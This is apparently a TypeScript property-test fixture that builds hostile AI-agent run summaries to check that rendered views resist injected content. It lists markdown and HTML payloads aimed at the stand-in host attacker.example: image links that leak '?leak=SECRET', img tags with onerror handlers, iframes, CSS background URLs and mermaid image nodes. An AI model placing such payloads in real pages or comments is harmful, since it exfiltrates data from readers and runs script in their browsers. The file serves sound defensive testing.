/**
 * Hostile run summaries for the view property tests: EVERY string field of a RunSummary (and of its
 * tool calls, retries, todos, denials, notices, diagnostics) is drawn from text that tries to make a
 * reader's browser load something — inline and reference-style images (with the definition in
 * another field), raw <img>/<picture>/<video>/<svg>, inline styles, diagram fences, entity and
 * escape tricks — mixed with markup that tries to break out of its context (fences, tables, quotes,
 * lists, `</details>`). `SUMMARY_KEYS` lists the fields the generator covers, so a new field of
 * RunSummary fails the test that checks it until someone decides what hostile text it gets.
 */
import fc from 'fast-check';
import { FAILED_CALLS, HEAD_CALLS } from '../../src/run/call-log.js';
import { emptySummary, type RunSummary, type ToolCall } from '../../src/run/summary.js';
import { OUTCOMES } from '../../src/stream/events.js';

export const ATTACKER = 'https://attacker.example';

export const LOADING_PIECES: readonly string[] = [
  `![p](${ATTACKER}/p.png?leak=SECRET)`,
  `![p](<${ATTACKER}/a b.png> "t")`,
  `![ref][r]`,
  '![r]',
  '![r][]',
  `[r]: ${ATTACKER}/r.png`,
  `\n[r]: ${ATTACKER}/r.png\n`,
  `[![badge](${ATTACKER}/b.svg)](https://example.com)`,
  `<img src="${ATTACKER}/i.png">`,
  `<img src=${ATTACKER}/j.png onerror=alert(1)>`,
  `<picture><source srcset="${ATTACKER}/s.png"><img src="${ATTACKER}/t.png"></picture>`,
  `<video poster="${ATTACKER}/v.png" src="${ATTACKER}/v.mp4"></video>`,
  `<audio src="${ATTACKER}/a.mp3"></audio>`,
  `<svg><image href="${ATTACKER}/svg.png"/></svg>`,
  `<div style="background:url(${ATTACKER}/bg.png)">x</div>`,
  `<table background="${ATTACKER}/t.png"><tr><td>x</td></tr></table>`,
  `<link rel=stylesheet href=${ATTACKER}/s.css>`,
  `<iframe src=${ATTACKER}/f></iframe>`,
  `<${ATTACKER}/auto.png>`,
  `${ATTACKER}/bare.png`,
  `&#33;[e](${ATTACKER}/e.png)`,
  `\\![x](${ATTACKER}/x.png)`,
  `!\n[x](${ATTACKER}/nl.png)`,
  '\n```mermaid\nflowchart LR\n  A@{ img: "https://attacker.example/m.png" }\n```\n',
  '\n~~~ geojson\n{"type":"Point","coordinates":[0,0]}\n~~~\n',
  '\n```&#109;ermaid\ngraph TD; A-->B\n```\n',
  '\n> ```topojson\n> {}\n> ```\n',
  '\n- ```STL\n  solid x\n  ```\n',
  '!',
  '[',
  ']',
  '(',
  ')',
  '<',
  '>',
  '"',
];

const BREAKOUT_PIECES: readonly string[] = [
  '`',
  '```',
  '~~~',
  '</details>',
  '<details>',
  '</summary>',
  '<!--',
  '-->',
  '|',
  '\\',
  '> ',
  '- ',
  '1. ',
  '    ',
  '\n',
  '\r\n',
  '\n\n',
  '&',
  '#',
  ';',
  ':',
  '*',
  '_',
  ' ',
  'text',
  '😀',
];

const piece = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...LOADING_PIECES) },
  { weight: 4, arbitrary: fc.constantFrom(...BREAKOUT_PIECES) },
  { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
);

/** Hostile text of up to `maxPieces` pieces. */
export const hostile = (maxPieces: number): fc.Arbitrary<string> =>
  fc.array(piece, { maxLength: maxPieces }).map((p) => p.join(''));

/** Sometimes long, so the smaller cap levels cut it (every level is rendered anyway). */
const big = fc.oneof(
  { weight: 3, arbitrary: hostile(30) },
  { weight: 1, arbitrary: hostile(30).map((t) => t.repeat(200)) },
);
const nullable = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: null });

const toolCall: fc.Arbitrary<ToolCall> = fc.record({
  id: hostile(2),
  name: fc.oneof(fc.constantFrom('Bash', 'Read', 'Edit', 'Agent', 'TodoWrite'), hostile(4)),
  status: fc.constantFrom('ok', 'error', 'denied', 'pending'),
  parentId: nullable(hostile(2)),
  input: fc.oneof(
    fc.record({ command: hostile(12), description: hostile(8) }),
    fc.record({ file_path: hostile(6) }),
    fc.record({ pattern: hostile(6), path: hostile(3) }),
    fc.dictionary(hostile(3), hostile(8), { maxKeys: 3 }),
    hostile(8),
  ),
  outputPreview: nullable(hostile(20)),
  outputChars: fc.nat(),
  exitCode: nullable(fc.integer({ min: -1, max: 255 })),
  durationMs: nullable(fc.nat({ max: 10_000_000 })),
  startedAt: fc.nat({ max: 1_000_000 }),
  endedAt: nullable(fc.nat({ max: 2_000_000 })),
});

const generated = fc.record({
  finished: fc.boolean(),
  outcome: fc.constantFrom(...OUTCOMES),
  dialect: fc.constantFrom('claude-code', 'codex', 'gemini', 'cursor', 'caliban', 'opencode', 'acp', null),
  sessionId: nullable(hostile(4)),
  model: nullable(hostile(4)),
  cliVersion: nullable(hostile(3)),
  permissionMode: nullable(hostile(3)),
  cwd: nullable(fc.oneof(fc.constant('/work'), hostile(3))),
  subtype: nullable(hostile(3)),
  isError: fc.boolean(),
  outcomeSource: fc.constantFrom('terminal_frame', 'exit_code', 'inferred', null),
  errorMessage: nullable(big),
  stopReason: nullable(hostile(3)),
  terminalReason: nullable(fc.oneof(fc.constant('api_error'), hostile(3))),
  finalText: nullable(big),
  lastText: nullable(hostile(20)),
  turns: nullable(fc.nat({ max: 500 })),
  steps: fc.nat({ max: 500 }),
  calls: fc.array(toolCall, { maxLength: 12 }),
  repeatCalls: fc.constantFrom(1, 1, 1, 60),
  // How many of the first calls a long run moved out of memory (the views read them from
  // earlierCalls: the first rows, the last failures, the counts by status and name).
  moved: fc.constantFrom(0, 0, 3, 50),
  retries: fc.array(
    fc.record({
      attempt: nullable(fc.nat(20)),
      maxRetries: nullable(fc.nat(20)),
      delayMs: nullable(fc.nat(100_000)),
      httpStatus: nullable(fc.constantFrom(429, 500, 529)),
      category: nullable(hostile(3)),
      message: nullable(hostile(8)),
      at: fc.nat({ max: 1_000_000 }),
    }),
    { maxLength: 4 },
  ),
  retriesKnown: fc.boolean(),
  costUsd: nullable(fc.double({ min: 0, max: 100, noNaN: true })),
  tokens: nullable(
    fc.record({ input: fc.nat(), output: fc.nat(), cacheRead: fc.nat(), cacheWrite: fc.nat() }),
  ),
  todos: fc.array(
    fc.record({
      id: nullable(hostile(2)),
      content: big,
      status: fc.constantFrom('pending', 'in_progress', 'completed'),
    }),
    { maxLength: 6 },
  ),
  // Every view lists the denials with the allowed-tools rule built from the call's input, and a
  // line to paste: hostile commands and paths reach the rule, the line and its YAML fence.
  permissionDenials: fc.array(
    fc.record({
      tool: fc.oneof(fc.constantFrom('Bash', 'Write', 'Read', 'mcp__x__y'), hostile(3)),
      toolUseId: nullable(hostile(2)),
      input: fc.oneof(fc.record({ command: hostile(12) }), fc.record({ file_path: hostile(6) }), hostile(6)),
    }),
    { maxLength: 6 },
  ),
  rateLimit: nullable(fc.record({ status: hostile(3), resetsAt: nullable(fc.nat()) })),
  notices: fc.array(
    fc.record({
      level: fc.constantFrom('info', 'warning', 'error'),
      code: hostile(2),
      message: hostile(8),
      at: fc.nat(),
    }),
    { maxLength: 3 },
  ),
  startedAt: nullable(fc.nat({ max: 1_000 })),
  lastEventAt: nullable(fc.nat({ max: 1_000_000 })),
  durationMs: nullable(fc.nat({ max: 100_000_000 })),
  exitCode: nullable(fc.integer({ min: -1, max: 255 })),
  signal: nullable(fc.oneof(fc.constant('SIGTERM'), hostile(2))),
  stderrTail: nullable(hostile(20)),
  diagnostics: fc.record({
    badLines: fc.nat(5),
    longLines: fc.nat(5),
    badLineSamples: fc.array(hostile(6), { maxLength: 3 }),
    unknownEvents: fc.dictionary(hostile(3), fc.nat(9), { maxKeys: 3 }),
    foreignFrames: fc.nat(3),
    ignoredResults: fc.nat(3),
    badUsage: fc.nat(3),
  }),
  // The MCP servers the agent reported at start: names, statuses and reasons are shown in the
  // comment header and the step summary.
  mcpServers: nullable(
    fc.array(
      fc.record({
        name: hostile(2),
        status: fc.oneof(fc.constantFrom('connected', 'failed', 'pending', 'needs-auth'), hostile(2)),
        error: nullable(hostile(6)),
      }),
      { maxLength: 4 },
    ),
  ),
  // Who stopped the run from the PR: a login and their reason are shown in every view.
  stopRequest: nullable(
    fc.record({
      login: hostile(2),
      via: fc.constantFrom('reaction' as const, 'command' as const),
      reason: nullable(hostile(6)),
      afterMs: fc.nat({ max: 10_000_000 }),
    }),
  ),
});

/** The RunSummary fields the generator sets (every one but the reducer's bookkeeping). */
export const SUMMARY_KEYS: readonly string[] = [
  'status',
  'dialect',
  'sessionId',
  'model',
  'cliVersion',
  'permissionMode',
  'cwd',
  'outcome',
  'subtype',
  'isError',
  'outcomeSource',
  'errorMessage',
  'stopReason',
  'terminalReason',
  'finalText',
  'lastText',
  'turns',
  'steps',
  'toolCalls',
  'earlierCalls',
  'retries',
  'retriesKnown',
  'costUsd',
  'tokens',
  'todos',
  'permissionDenials',
  'rateLimit',
  'notices',
  'startedAt',
  'lastEventAt',
  'durationMs',
  'exitCode',
  'signal',
  'stderrTail',
  'diagnostics',
  'stopRequest',
  'mcpServers',
  'fold',
];

export const hostileSummary: fc.Arbitrary<RunSummary> = generated.map(
  ({ finished, calls, repeatCalls, moved, ...g }) => {
    const all = Array.from({ length: repeatCalls }, () => calls).flat();
    const k = Math.min(moved, all.length);
    return {
      ...emptySummary(g.dialect),
      ...g,
      status: finished ? ('finished' as const) : ('running' as const),
      outcome: finished ? g.outcome : null,
      toolCalls: all.slice(k),
      earlierCalls: earlierOf(all.slice(0, k)),
    };
  },
);

/** What a run that moved `calls` out of memory keeps of them (as the post step's snapshot holds it). */
function earlierOf(calls: ToolCall[]): RunSummary['earlierCalls'] {
  const e = emptySummary().earlierCalls;
  const counts = { ...e.counts };
  const names = new Map<string, number>();
  for (const c of calls) {
    counts[c.status]++;
    names.set(c.name, (names.get(c.name) ?? 0) + 1);
  }
  return {
    ...e,
    count: calls.length,
    counts,
    names: [...names],
    head: calls.slice(0, HEAD_CALLS),
    failed: calls
      .map((call, i) => ({ n: i + 1, call }))
      .filter((f) => f.call.status === 'error' || f.call.status === 'denied')
      .slice(-FAILED_CALLS),
  };
}
